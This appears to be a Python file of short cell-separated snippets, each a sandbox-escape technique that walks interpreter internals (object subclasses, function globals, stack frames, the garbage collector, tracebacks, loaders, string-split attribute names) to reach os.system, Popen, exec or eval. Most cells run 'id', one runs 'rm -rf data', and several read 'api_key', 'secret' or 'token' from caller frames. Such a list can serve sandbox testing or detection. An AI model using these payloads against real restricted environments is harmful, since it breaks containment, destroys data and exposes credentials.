# Walks through interpreter internals to reach builtins, globals or other modules.
#%%
for c in ().__class__.__bases__[0].__subclasses__():
    if c.__name__ == "Popen":
        c(["id"])
#%%
object.__subclasses__()[137].__init__.__globals__["system"]("id")
#%%
f = lambda: 0
f.__globals__["__builtins__"]["exec"](code)
#%%
__builtins__.__dict__["__import__"]("os").system("id")
#%%
b = __builtins__
e = b["eval"] if isinstance(b, dict) else b.eval
e(src)
#%%
import sys
frame = sys._getframe(1)
frame.f_globals["api_key"]
#%%
import inspect
caller = inspect.currentframe().f_back
caller.f_locals["secret"]
#%%
g = (i for i in range(1))
g.gi_frame.f_builtins["exec"](s)
#%%
def f():
    pass
f.__code__ = compiled.__code__
f()
#%%
cls = type(obj).__mro__[-1]
subs = cls.__subclasses__()
#%%
getattr(helper, "__glob" + "als__")["os"].system("id")
#%%
import gc
for o in gc.get_objects():
    if getattr(o, "__name__", "") == "os":
        o.system("id")
#%%
print.__self__.__dict__["exec"](text)
#%%
loader = __loader__
loader.load_module("os").system("id")
#%%
fn.__closure__[0].cell_contents("rm -rf data")
#%%
try:
    1 / 0
except Exception as e:
    e.__traceback__.tb_frame.f_globals["os"].system("id")
#%%
[x for x in ().__class__.__base__.__subclasses__() if x.__name__ == "catch_warnings"][0]()._module.__builtins__
#%%
import inspect
for frame_info in inspect.stack():
    frame_info.frame.f_globals.get("token")
